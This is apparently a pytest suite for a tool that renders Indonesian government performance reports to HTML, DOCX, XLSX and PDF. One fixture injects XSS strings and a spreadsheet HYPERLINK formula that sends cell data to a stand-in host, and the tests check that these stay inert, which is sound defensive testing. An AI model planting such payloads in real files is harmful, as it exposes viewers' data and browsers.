"""Rendering: golden text of the example, figures equal compile --json, injection stays inert,
workspace overrides, loud failures, PDF where the extra is installed."""

from __future__ import annotations

import io
import os
import zipfile
from decimal import Decimal as D
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from kinerja_cli.domain.models import PK, Narasi
from kinerja_cli.domain.results import Kompilasi
from kinerja_cli.errors import KinerjaError
from kinerja_cli.io.draft.json_doc import to_json
from kinerja_cli.report import render
from kinerja_cli.report.context import build_context
from kinerja_cli.report.filters import angka
from support.fakedata import example_data
from support.laporankit import TANGGAL_TAHUNAN, TANGGAL_TW2, TW2, kompilasi_untuk
from support.teks import docx_baris, docx_teks, html_baris, html_teks

pytestmark = pytest.mark.slow  # whole cycles / rendering / fuzzing: the full run only

GOLDEN = Path(__file__).resolve().parents[1] / "golden"
UPDATE = os.environ.get("KINERJA_UPDATE_GOLDEN") == "1"


def _cocok(nama: str, teks: str) -> None:
    path = GOLDEN / nama
    if UPDATE:
        path.write_text(teks, encoding="utf-8")
    assert path.exists(), f"{path} belum ada: jalankan dengan KINERJA_UPDATE_GOLDEN=1"
    assert teks == path.read_text(encoding="utf-8"), (
        f"{nama} berbeda dari golden; bila disengaja, perbarui dengan KINERJA_UPDATE_GOLDEN=1"
    )


def _render(ctx: dict[str, Any], fmt: str, override: Path | None = None) -> bytes:
    env = render.make_env(override)
    return render.renderer(fmt, override)(ctx, env, render.charts_png(ctx))


@pytest.fixture(scope="module")
def ctx_tahunan(k_tahunan: Kompilasi) -> dict[str, Any]:
    return build_context(k_tahunan, TANGGAL_TAHUNAN)


@pytest.fixture(scope="module")
def ctx_tw2(k_tw2: Kompilasi, k_tw1: Kompilasi) -> dict[str, Any]:
    return build_context(k_tw2, TANGGAL_TW2, k_tw1)


@pytest.fixture(scope="module")
def out_tahunan(ctx_tahunan: dict[str, Any]) -> dict[str, bytes]:
    return {f: _render(ctx_tahunan, f) for f in ("html", "docx", "xlsx")}


@pytest.fixture(scope="module")
def out_tw2(ctx_tw2: dict[str, Any]) -> dict[str, bytes]:
    return {f: _render(ctx_tw2, f) for f in ("html", "docx", "xlsx")}


def test_golden_annual(out_tahunan: dict[str, bytes]) -> None:
    _cocok("laporan-tahunan.html.txt", html_teks(out_tahunan["html"].decode()))
    _cocok("laporan-tahunan.docx.txt", docx_teks(out_tahunan["docx"]))


def test_golden_quarterly(out_tw2: dict[str, bytes]) -> None:
    _cocok("reviu-triwulan-II.html.txt", html_teks(out_tw2["html"].decode()))
    _cocok("reviu-triwulan-II.docx.txt", docx_teks(out_tw2["docx"]))


def test_annual_reads_like_the_signed_document(out_tahunan: dict[str, bytes]) -> None:
    text = html_teks(out_tahunan["html"].decode())
    for s in (
        "PEMERINTAH KABUPATEN BALANGAN",
        "PENGUKURAN KINERJA",
        "TAHUN 2025",
        "LAMPIRAN",
        "A. Dasar dan Metode Pengukuran",
        "Paringin, 20 Januari 2026",
        "Pembina Utama Muda (IV/c)",
        "NIP. 19720514 199803 1 006",
        "Rp85.614.665.000",
    ):
        assert s in text, s
    # the lembar is signed before the appendix (docs/contract.md §16)
    assert text.index("NIP. 19720514 199803 1 006") < text.index("LAMPIRAN")
    assert "…" not in text
    docx = docx_teks(out_tahunan["docx"])
    assert "Paringin, 20 Januari 2026" in docx and "NIP. 19720514 199803 1 006" in docx
    assert "{{" not in docx and "{%" not in docx


def _cari(rows: list[list[str]], nama: str) -> list[str]:
    """The first row with a cell that is, or starts with, the indicator's name."""
    return next(r for r in rows if any(c == nama or c.startswith(nama + " ") for c in r))


def test_annual_figures_equal_compile_json(
    k_tahunan: Kompilasi, out_tahunan: dict[str, bytes]
) -> None:
    doc = to_json(k_tahunan)
    for rows in (html_baris(out_tahunan["html"].decode()), docx_baris(out_tahunan["docx"])):
        for i in doc["indikator"]:
            nama = next(b.nama for b in k_tahunan.indikator if b.kode == i["kode"])
            row = _cari(rows, nama)
            assert angka(i["capaian"]) in row, (i["kode"], row)
        dinas = next(r for r in rows if len(r) >= 3 and r[-3].startswith("Capaian kinerja"))
        assert dinas[-2] == angka(doc["dinas"]["capaian"])
        for s in doc["sasaran"]:
            assert any(s["nama"] in r and angka(s["capaian"]) in r for r in rows), s["kode"]


def test_quarterly_figures_equal_compile_json(k_tw2: Kompilasi, out_tw2: dict[str, bytes]) -> None:
    doc = to_json(k_tw2)
    rows = html_baris(out_tw2["html"].decode())
    for i in doc["indikator"]:
        nama = next(b.nama for b in k_tw2.indikator if b.kode == i["kode"])
        row = next(r for r in rows if len(r) == 12 and r[1].startswith(nama))  # detail table
        assert row[-4] == angka(i["capaian_triwulan"])  # capaian triwulan (– when null)
        assert row[-3] == angka(i["capaian"])  # capaian tahunan
    assert angka(doc["dinas"]["capaian"]) in html_teks(out_tw2["html"].decode())


@pytest.fixture(scope="module")
def ctx_jahat(pk: PK) -> dict[str, Any]:
    data = example_data(pk, TW2, ("PR",))
    data["BM"].narasi["IK.10"] = Narasi(
        pendorong="<script>alert(1)</script>",
        penghambat='<img src=x onerror=alert(1)>" onmouseover="alert(2)',
        tindak_lanjut='=HYPERLINK("http://x.example/?d="&A2,"Klik")',
        bukti='javascript:alert(1) https://ok.example/a"onmouseover="x',
    )
    k = kompilasi_untuk(pk, TW2, ubah={"BM": data["BM"]})
    return build_context(k, TANGGAL_TW2)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def test_xss_payload_stays_inert_in_html(ctx_jahat: dict[str, Any]) -> None:
    html = _render(ctx_jahat, "html").decode()
    p = _Tags()
    p.feed(html)
    names = {t for t, _ in p.tags}
    assert "script" not in names
    for tag, attrs in p.tags:
        for k, v in attrs:
            assert not k.startswith("on"), (tag, k, v)
            if k in ("href", "src"):
                assert (v or "").startswith(("https://", "http://", "data:image/png")), (tag, v)
    assert sum(1 for t, a in p.tags if t == "img") == 3  # the charts only
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert 'href="https://ok.example/a"' in html  # the link stops at the quote
    assert "&#34;onmouseover=&#34;x" in html
    assert "javascript:alert(1)" in html and 'href="javascript' not in html
    assert "Content-Security-Policy" in html and "default-src 'none'" in html


def test_formula_payload_stays_text_in_xlsx(ctx_jahat: dict[str, Any]) -> None:
    from openpyxl import load_workbook

    data = _render(ctx_jahat, "xlsx")
    wb = load_workbook(io.BytesIO(data))
    cells = [
        c
        for ws in wb
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")
    ]
    assert cells
    for c in cells:
        assert c.data_type == "s" and c.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name


def test_xss_payload_stays_text_in_docx(ctx_jahat: dict[str, Any]) -> None:
    text = docx_teks(_render(ctx_jahat, "docx"))
    assert "<script>alert(1)</script>" in text  # shown as text, the XML still valid


def test_workspace_template_overrides_file_by_file(
    tmp_path: Path, ctx_tahunan: dict[str, Any]
) -> None:
    (tmp_path / "_kop.html").write_text(
        '<div class="kop-khusus">KOP KHUSUS {{ kop.pemda }}</div>', encoding="utf-8"
    )
    html = _render(ctx_tahunan, "html", tmp_path).decode()
    assert "KOP KHUSUS PEMERINTAH KABUPATEN BALANGAN" in html
    assert "LAMPIRAN" in html  # the rest still from the packaged templates


def test_a_missing_variable_fails_loudly(tmp_path: Path, ctx_tahunan: dict[str, Any]) -> None:
    from jinja2 import UndefinedError

    env = render.make_env(None)
    with pytest.raises(UndefinedError):
        env.from_string("{{ tidak_ada }}").render({})
    with pytest.raises(UndefinedError):
        env.from_string("{{ kop.tidak_ada|upper }}").render(ctx_tahunan)
    (tmp_path / "laporan-tahunan.html").write_text("<p>{{ variabel_salah }}</p>", encoding="utf-8")
    with pytest.raises(KinerjaError, match="variabel_salah"):
        _render(ctx_tahunan, "html", tmp_path)


def test_every_chart_is_embedded_as_data_uri(
    out_tahunan: dict[str, bytes], out_tw2: dict[str, bytes]
) -> None:
    for out, n in ((out_tahunan, 3), (out_tw2, 3)):
        html = out["html"].decode()
        assert html.count('src="data:image/png;base64,') == n
        assert "http://" not in html.split("<body", 1)[0]
    with zipfile.ZipFile(io.BytesIO(out_tw2["docx"])) as z:
        assert len([n for n in z.namelist() if n.startswith("word/media/")]) == 3


def test_pdf_where_the_extra_is_installed(ctx_tahunan: dict[str, Any]) -> None:
    pytest.importorskip("xhtml2pdf")
    from pypdf import PdfReader

    data = _render(ctx_tahunan, "pdf")
    assert data.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(data))
    box = reader.pages[0].mediabox
    assert float(box.width) > float(box.height)  # A4 landscape
    text = " ".join(p.extract_text() for p in reader.pages)
    assert "PENGUKURAN KINERJA" in text and "20 Januari 2026" in text


def test_pdf_missing_extra_names_it(
    monkeypatch: pytest.MonkeyPatch, ctx_tahunan: dict[str, Any]
) -> None:
    monkeypatch.setattr(render, "pdf_available", lambda: False)
    with pytest.raises(KinerjaError, match=r'pip install "kinerja-cli\[pdf\]"'):
        _render(ctx_tahunan, "pdf")


def test_output_names_carry_year_and_periode(
    ctx_tahunan: dict[str, Any], ctx_tw2: dict[str, Any]
) -> None:
    assert render.file_name(ctx_tahunan, "html") == "Laporan-Pengukuran-Kinerja-2025.html"
    assert render.file_name(ctx_tw2, "docx") == "Reviu-Triwulan-II-2025.docx"


def test_numbers_in_xlsx_are_numbers(out_tahunan: dict[str, bytes]) -> None:
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(out_tahunan["xlsx"]))["Pengukuran"]
    rows = list(ws.iter_rows(min_row=6, values_only=True))
    cap = 7  # No, Kode, Sasaran, Indikator, Satuan, Target, Realisasi, Capaian (%)
    assert any(isinstance(r[cap], int | float) for r in rows)
    dinas = next(r for r in rows if str(r[2] or "").startswith("Capaian kinerja"))
    assert D(str(dinas[cap])) == D(angka(ctx_dinas(out_tahunan)).replace(".", "").replace(",", "."))


def ctx_dinas(out: dict[str, bytes]) -> D:
    rows = html_baris(out["html"].decode())
    dinas = next(r for r in rows if len(r) >= 3 and r[-3].startswith("Capaian kinerja"))
    return D(dinas[-2].replace(".", "").replace(",", "."))
